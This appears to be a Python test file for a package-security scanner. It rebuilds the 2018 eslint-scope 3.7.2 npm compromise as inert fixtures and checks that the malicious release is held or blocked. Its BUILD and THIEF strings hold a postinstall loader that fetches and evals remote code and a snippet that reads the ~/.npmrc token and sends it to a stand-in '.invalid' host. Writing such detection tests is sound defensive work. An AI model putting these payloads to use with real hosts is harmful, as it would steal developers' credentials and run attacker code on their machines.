"""eslint-scope 3.7.2 (2018-07-12), rebuilt inert.

What happened: with a reused password somebody published a release whose postinstall script downloaded code and ran
it; that code read the user's npm credentials and sent them away. Here the sinks are `*.invalid` addresses.
"""

import json
from datetime import UTC, datetime

from tests.cli.running import Machine
from tests.loopback import NpmPackage, NpmRelease

LIBRARY = {"lib/index.js": "exports.analyze = function (tree) { return tree; };\n"}
BUILD = """try {
  var https = require('https');
  https.get({ hostname: 'paste.invalid', path: '/raw/marker', headers: { 'User-Agent': 'Mozilla/5.0' } }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) { eval(c); });
    r.on('error', function () {});
  }).on('error', function () {});
} catch (e) {}
"""
THIEF = """var fs = require('fs'), path = require('path'), https = require('https');
var file = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
var token = fs.readFileSync(file, 'utf8');
https.get({ hostname: 'counter.invalid', path: '/', headers: { Referer: 'http://x.invalid/' + token } });
"""


def publish(machine: Machine, script: str) -> None:
    at = datetime(2018, 7, 12, 10, 40, tzinfo=UTC)
    clean = NpmRelease(version="3.7.1", files=LIBRARY, manifest={"main": "lib/index.js"}, published_at=at)
    bad = NpmRelease(
        version="3.7.2",
        files={**LIBRARY, "lib/build.js": script},
        manifest={"main": "lib/index.js", "scripts": {"postinstall": "node ./lib/build.js"}},
        published_at=at,
    )
    machine.registry.put_npm(NpmPackage(name="eslint-scope", releases=(clean, bad)))


def test_the_downloader_is_stopped_with_hook_and_place(machine: Machine) -> None:
    publish(machine, BUILD)
    ran = machine.run("inspect", "-f", "jsonl", "eslint-scope@3.7.2")
    (answer,) = ran.lines
    assert 1 == ran.code
    assert answer["action"] in {"hold", "block"}
    reasons = {reason["source"]: reason for reason in answer["reasons"]}
    assert "npm will run `node ./lib/build.js` at install" in reasons["new-install-hook"]["text"]
    assert "package.json" == reasons["new-install-hook"]["location"]["path"]


def test_the_credential_thief_is_stopped_for_what_it_does(machine: Machine) -> None:
    publish(machine, THIEF)
    ran = machine.run("inspect", "-v", "eslint-scope@3.7.2")
    assert 1 == ran.code
    assert "when it is installed: reads credentials and uses the network" in ran.out
    assert "lib/build.js:" in ran.out


def test_the_clean_release_is_allowed(machine: Machine) -> None:
    publish(machine, BUILD)
    assert 0 == machine.run("inspect", "eslint-scope@3.7.1").code


def test_the_upgrade_is_stopped_in_a_project(machine: Machine) -> None:
    publish(machine, BUILD)
    machine.lock("eslint-scope@3.7.1")
    machine.run("check")
    machine.lock("eslint-scope@3.7.2", entries={"eslint-scope": {"hasInstallScript": True}})
    ran = machine.run("check", "--format", "json")
    assert 1 == ran.code
    assert json.dumps(ran.json).count("new-install-hook") >= 1
